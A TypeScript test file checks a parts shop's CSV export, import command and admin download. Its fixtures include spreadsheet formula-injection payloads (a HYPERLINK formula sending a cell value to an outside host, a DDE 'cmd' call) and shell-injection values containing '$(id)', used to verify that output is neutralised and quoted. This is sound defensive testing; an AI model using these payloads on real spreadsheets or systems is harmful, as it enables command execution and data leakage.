import { execFile } from 'node:child_process'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Writable } from 'node:stream'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { signUpAdmin } from '#test/support/admin.ts'
import { SECRET } from '#test/support/secret.ts'
import { signUp } from '#test/support/shopper.ts'
import { stock } from '#test/support/stock-room.ts'
import { useShop } from '#test/support/use-shop.ts'
import { productsCommand } from './command.ts'
import { importProducts } from './import-products.ts'

let folder: string

const shop = useShop()

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'farad-csv-'))
  for (const name of hostile) await stock(shop.db, { name, description: `${name}\r\n"=1+1";'` })
})
afterAll(async () => {
  await rm(folder, { recursive: true })
})

/** Names that a spreadsheet would run, names close to them, and names that need quoting. */
const hostile = [
  '=HYPERLINK("http://example.com/?x="&A1,"10 kΩ")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-5 V regulator',
  '@SUM(1)',
  "'=1+1",
  "''=1+1",
  "'quoted'",
  '＝1+1',
  '5" LED strip; red, 12 V',
  '"',
  'with a \uFEFFmark',
]

const run = promisify(execFile)

async function command(...words: string[]) {
  return commandOn(shop.databaseUrl, ...words)
}

async function commandOn(databaseUrl: string, ...words: string[]) {
  const said = { out: '', err: '' }
  const into = (where: keyof typeof said) =>
    new Writable({
      write(chunk, _encoding, done) {
        said[where] += chunk
        done()
      },
    })
  const environment = { DATABASE_URL: databaseUrl, STORE_SECRET: SECRET }
  const { signal } = new AbortController()
  const code = await productsCommand(words, {
    environment,
    folder,
    signal,
    out: into('out'),
    err: into('err'),
  })
  return { code, ...said }
}
const download = (token?: string) =>
  fetch(`${shop.url}/api/products.csv`, token ? { headers: { authorization: `Bearer ${token}` } } : {})

describe('the file of an export', () => {
  it('has no cell that a spreadsheet would run', async () => {
    const { out } = await command('export')
    expect(out).toMatch(
      /^\uFEFFpartNumber,name,description,img,price,minimumOrder,availableQuantity,family,packaging,/,
    )
    expect(out.match(/(^|,)"[=+\-@\t\r＝]/gm)).toBeNull()
    expect(out).toContain(`"'-5 V regulator"`)
    expect(out).toContain(',0.25,10,1000,other,,,,active,,,unknown,unknown,,,,,,,,,1,,\r\n')
  })

  it('is imported without a change, for any names', async () => {
    expect(await command('export', 'all.csv')).toMatchObject({ code: 0, out: '' })
    const outcome = await importProducts(shop.db, { file: join(folder, 'all.csv'), apply: true })
    expect(outcome).toMatchObject({ unchanged: hostile.length, changed: 0, added: 0, refused: 0 })
  })

  it('leaves out deleted products', async () => {
    const id = await stock(shop.db, { name: 'GONE' })
    await shop.db.query('UPDATE products SET archived_at = now() WHERE id = $1', [id])
    expect((await command('export')).out).not.toContain('GONE')
  })
})

describe('the download', () => {
  it('is the same file, for admins', async () => {
    const admin = await signUpAdmin(shop)
    const response = await download(admin.token)
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toContain('attachment')
    expect(Buffer.from(await response.arrayBuffer()).toString()).toBe((await command('export')).out)
  })

  it('is rejected for visitors and buyers', async () => {
    expect((await download()).status).toBe(401)
    const buyer = await signUp(shop.url)
    const refused = await download(buyer.token)
    expect(refused.status).toBe(403)
    expect(await refused.text()).not.toContain('regulator')
  })
})

describe('the command', () => {
  it('shows a dry run, then imports', async () => {
    await writeFile(join(folder, 'new.csv'), `${HEADER}\nNEW,x,/drawings/led-5mm-red.svg,1,1,1\n`)
    const looked = await command('import', 'new.csv')
    expect(looked.code).toBe(0)
    expect(looked.out).toMatch(/New +1\n.*Changed +0\n/)
    expect(looked.out).toMatch(
      /What would be added\n +2 {2}NEW +price 1, minimumOrder 1, availableQuantity 1,/,
    )
    expect(looked.out).not.toContain('To keep the stock')
    expect(looked.out).toContain('npm run products -- import new.csv --apply')
    expect((await command('import', 'new.csv', '--apply')).out).toContain('Imported: 1 new, 0 changed.')
    expect((await command('import', 'new.csv')).out).toContain('has all of this already')
  })

  it('shows how many stocks it would set, and how to keep them', async () => {
    await stock(shop.db, { name: 'STALE' })
    await writeFile(join(folder, 'stale.csv'), `${HEADER}\nSTALE,x,/drawings/led-5mm-red.svg,1,1,7\n`)
    const { out } = await command('import', 'stale.csv')
    expect(out).toMatch(/Stock set +1\n/)
    expect(out).toMatch(/was written: 1\.\nTo keep the stock, leave the cell of availableQuantity empty/)
    expect((await command('--help')).out).toContain('Leave the cell empty, or remove the column, to keep')
  })

  it('prints a command that a shell reads literally', async () => {
    const { email } = await signUpAdmin(shop)
    const as = `o'hara+$(id)-${email}`
    await shop.db.query('UPDATE users SET email = $1 WHERE email = $2', [as, email])
    const names = ["my parts; $(id) 'new'.csv", '-x.csv']
    for (const name of names)
      await writeFile(join(folder, name), `${HEADER}\nNEWER,x,/drawings/led-5mm-red.svg,1,1,1\n`)
    for (const name of names) {
      const { out } = await command('import', `--as=${as}`, '--', name)
      const line = out.trimEnd().split('\n').at(-1)?.trim() ?? ''
      const { stdout } = await run('sh', ['-c', line.replace('npm run products --', "printf '%s\\n'")])
      const path = name.startsWith('-') ? `./${name}` : name
      expect(stdout.trimEnd().split('\n')).toEqual(['import', path, '--apply', `--as=${as}`])
    }
  })

  it('shows refused lines without control characters, and exits with 1', async () => {
    await writeFile(join(folder, 'bad.csv'), `${HEADER}\n\u001b[31mRED,x,/drawings/led-5mm-red.svg,x,1,1\n`)
    const { code, out } = await command('import', 'bad.csv', '--apply')
    expect(code).toBe(1)
    expect(out).toMatch(/Refused +1\n/)
    expect(out).toContain('2  [31mRED')
    expect(out).not.toContain('\u001b')
  })

  it('exits with 1 if the file is missing, and with 2 for wrong arguments', async () => {
    expect(await command('import', 'nothing.csv')).toMatchObject({
      code: 1,
      err: expect.stringContaining('File not found'),
    })
    for (const words of [[], ['remove'], ['import'], ['import', 'a', 'b'], ['export', '--apply'], ['--what']])
      expect((await command(...words)).code, words.join(' ')).toBe(2)
    expect(await command('--help')).toMatchObject({ code: 0, out: expect.stringContaining('--apply') })
  })

  it('names its database, and explains a refused connection', async () => {
    const name = new URL(shop.databaseUrl).pathname.slice(1)
    expect((await command('export', 'named.csv')).err).toContain(`The store is in the database ${name} at `)
    const { code, err } = await commandOn(
      'postgres://farad:copper-wire@127.0.0.1:1/parts',
      'export',
      'named.csv',
    )
    expect(code).toBe(1)
    expect(err).toContain('No PostgreSQL listens at 127.0.0.1:1: the connection was refused.')
    expect(err).not.toContain('copper-wire')
  })

  it('leaves no partial file', async () => {
    await rm(join(folder, 'all.csv'), { force: true })
    await command('export', 'all.csv')
    expect(await readFile(join(folder, 'all.csv'), 'utf8')).toMatch(/\r\n$/)
    expect((await command('export', 'no/such/folder.csv')).code).toBe(1)
  })
})

const HEADER = 'name,description,img,price,minimumOrder,availableQuantity'
